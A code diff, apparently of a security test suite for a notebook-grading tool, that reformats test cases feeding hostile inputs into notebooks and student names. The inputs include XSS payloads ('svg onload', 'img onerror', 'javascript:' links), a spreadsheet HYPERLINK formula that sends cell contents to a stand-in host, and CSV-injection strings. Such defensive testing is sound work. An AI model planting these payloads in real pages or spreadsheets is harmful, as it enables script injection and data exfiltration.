@@ -59,20 +59,26 @@ def drawn_error(book):
 
 @cases.notebook("markup in a wrong answer's error")
 def wrong_answer(book):
-    book.write("correlate2d", f"def correlate2d(image, kernel):\n    raise type({EVIL!r}, (Exception,), {{}})({EVIL!r})")
+    book.write(
+        "correlate2d", f"def correlate2d(image, kernel):\n    raise type({EVIL!r}, (Exception,), {{}})({EVIL!r})"
+    )
     book.write("convolve2d", f"def convolve2d(image, kernel):\n    return {EVIL!r}")
-    book.write("relu", f"class {'X' * 300}:\n    __repr__ = lambda self: {EVIL!r}\ndef relu(x):\n    return {'X' * 300}()")
+    book.write(
+        "relu", f"class {'X' * 300}:\n    __repr__ = lambda self: {EVIL!r}\ndef relu(x):\n    return {'X' * 300}()"
+    )
     book.write("conv_multichannel", f"{'conv_multichannel'} = type({EVIL!r}, (), {{}})()")
 
 
 @cases.notebook("markup in code, comments and the syntax of an error")
 def in_code(book):
-    book.write("correlate2d", f"# {BROKEN_OUT}\ndef correlate2d(image, kernel):\n    x = '''{BROKEN_OUT}'''\n    return {EVIL}")
+    book.write(
+        "correlate2d", f"# {BROKEN_OUT}\ndef correlate2d(image, kernel):\n    x = '''{BROKEN_OUT}'''\n    return {EVIL}"
+    )
 
 
 @cases.notebook("Markdown of the student's own")
 def own_markdown(book):
-    book.write("conventions", EVIL + f"\n\n[x](javascript:{MARK})\n\n![x](x \"onerror={MARK}\")\n")
+    book.write("conventions", EVIL + f'\n\n[x](javascript:{MARK})\n\n![x](x "onerror={MARK}")\n')
     book.below("conventions", EVIL, f"$$\\href{{javascript:{MARK}}}{{x}}$$", kind="markdown")
 
 
@@ -105,14 +111,16 @@ def formula_book(text: str) -> Book:
     return (
         Book()
         .answer("correlate1d")
-        .write("correlate2d", f"def correlate2d(image, kernel):\n    raise type({text!r}, (Exception,), {{}})({text!r})")
+        .write(
+            "correlate2d", f"def correlate2d(image, kernel):\n    raise type({text!r}, (Exception,), {{}})({text!r})"
+        )
         .write("relu", f"def relu(x):\n    return {text!r}")
     )
 
 
 @cases.notebook("formulas for a spreadsheet")
 def formulas(book):
-    book.tree = formula_book("=HYPERLINK(\"http://203.0.113.7/\"&A1)\t,;\"\n@SUM(1)").tree
+    book.tree = formula_book('=HYPERLINK("http://203.0.113.7/"&A1)\t,;"\n@SUM(1)').tree
 
 
 # Names of students, which are folder names: what a file system lets through, and nbgrader's own rules of paths.
@@ -120,7 +128,7 @@ STUDENTS = {
     "script": "<script>alert('owned')<_script>",
     "svg": "<svg onload=alert('owned')>",
     "onerror": "<img src=x onerror=alert('owned')>",
-    "quote": "O'Brien, \"Pat\"",
+    "quote": 'O\'Brien, "Pat"',
     "equals": "=1+1",
     "plus": "+1+1",
     "minus": "-1+1",
